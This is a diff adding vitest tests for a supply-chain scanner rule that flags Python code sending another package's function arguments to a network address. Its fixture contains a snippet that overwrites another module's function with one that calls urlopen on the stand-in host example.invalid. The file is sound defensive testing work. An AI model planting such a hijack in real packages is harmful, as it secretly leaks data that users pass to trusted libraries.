@@ -1,0 +1,20 @@
+import { expect, test } from 'vitest';
+import { loadPythonParser } from '../../src/python/parser.js';
+import { readSource } from '../../src/python/read-source.js';
+import parameterToNetwork from '../../src/rules/parameter-to-network.js';
+
+const parser = loadPythonParser({ wasmRuntime: 'node_modules/web-tree-sitter/web-tree-sitter.wasm', wasmGrammar: 'data/grammar/tree-sitter-python.wasm' });
+
+async function severities(module: string): Promise<readonly string[]> {
+  const text = `import urllib.request\nimport ${module}\n\n\ndef mine(day):\n    return urllib.request.urlopen("https://example.invalid/" + day)\n\n\n${module}.sow = mine\n`;
+  const { facts } = await readSource({ path: 'garden-1.0/src/garden/build.py', bytes: Buffer.from(text), runs: 'import' }, () => parser);
+  return facts === null ? [] : parameterToNetwork.check(facts).map(({ severity }) => severity);
+}
+
+test("what sends to one address all that another package's function is given is blocked", async () => {
+  expect(await severities('meadow')).toEqual(['critical']);
+});
+
+test('a package that adds such a function to its own module is told', async () => {
+  expect(await severities('garden')).toEqual(['low']);
+});
